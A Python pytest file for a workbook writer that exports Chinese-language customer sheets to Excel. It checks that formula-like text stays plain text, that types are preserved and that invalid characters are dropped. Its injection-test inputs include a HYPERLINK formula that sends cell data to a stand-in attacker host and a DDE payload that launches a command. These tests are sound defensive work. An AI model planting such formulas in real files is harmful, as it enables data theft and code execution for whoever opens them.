"""Excel files: what people typed stays text, whatever it begins with; what Excel can't hold is left out."""

from __future__ import annotations

import zipfile
from datetime import date
from decimal import Decimal
from pathlib import Path
from random import Random
from typing import Any

import pytest
from openpyxl import load_workbook

from notifications.documents.workbook import Book, Column, Value


def written(path: Path, *rows: tuple[Value, ...]) -> Any:
    with Book(path) as book:
        book.sheet("客户", [Column("名称", 40), Column("数")])
        book.add("客户", rows)
    return load_workbook(path)["客户"]


@pytest.mark.parametrize(
    "text",
    [
        '=HYPERLINK("http://evil.example/?"&A1,"点我")',
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1+1)",
        "\t=1+1",
        "\n=1+1",
        " =1+1",
        "＝1+1",
        "=1",
    ],
)
def test_no_text_becomes_a_formula(tmp_path: Path, text: str) -> None:
    path = tmp_path / "book.xlsx"
    cell = written(path, (text, 1))["A2"]
    assert cell.data_type == "s"
    assert cell.quotePrefix
    assert cell.value.strip() == text.strip()
    with zipfile.ZipFile(path) as archive:
        sheet = archive.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet


def test_values_keep_their_kind(tmp_path: Path) -> None:
    sheet = written(tmp_path / "book.xlsx", ("星河", Decimal("3.5")), (date(2027, 2, 22), -5), (None, 0))
    assert [[cell.value for cell in row] for row in sheet.iter_rows(min_row=2, max_row=2)] == [["星河", 3.5]]
    assert sheet["A3"].value.date() == date(2027, 2, 22)
    assert sheet["B3"].value == -5


def test_the_head_stays_in_sight_and_filters_all_rows(tmp_path: Path) -> None:
    sheet = written(tmp_path / "book.xlsx", ("星河", 1), ("银河", 2))
    assert (sheet.freeze_panes, sheet.auto_filter.ref) == ("A2", "A1:B3")
    assert written(tmp_path / "empty.xlsx").auto_filter.ref is None


def test_what_excel_cannot_hold_is_left_out(tmp_path: Path) -> None:
    sheet = written(tmp_path / "book.xlsx", ("星\x00河\x0b\ud800", 1), ("长" * 40_000, 2))
    assert sheet["A2"].value == "星河"
    assert len(sheet["A3"].value) == 32_767


def test_the_size_is_told_before_it_is_saved_and_not_too_small(tmp_path: Path) -> None:
    random = Random(1)
    path = tmp_path / "book.xlsx"
    with Book(path) as book:
        book.sheet("客户", [Column("名称"), Column("动态")])
        for number in range(3000):
            dynamics = "".join(chr(random.randrange(0x4E00, 0x9FA5)) for _ in range(60))
            book.add("客户", [(f"客户{number}", dynamics, number, date(2026, 11, 22))])
    assert 0.9 * path.stat().st_size < book.size < 1.6 * path.stat().st_size
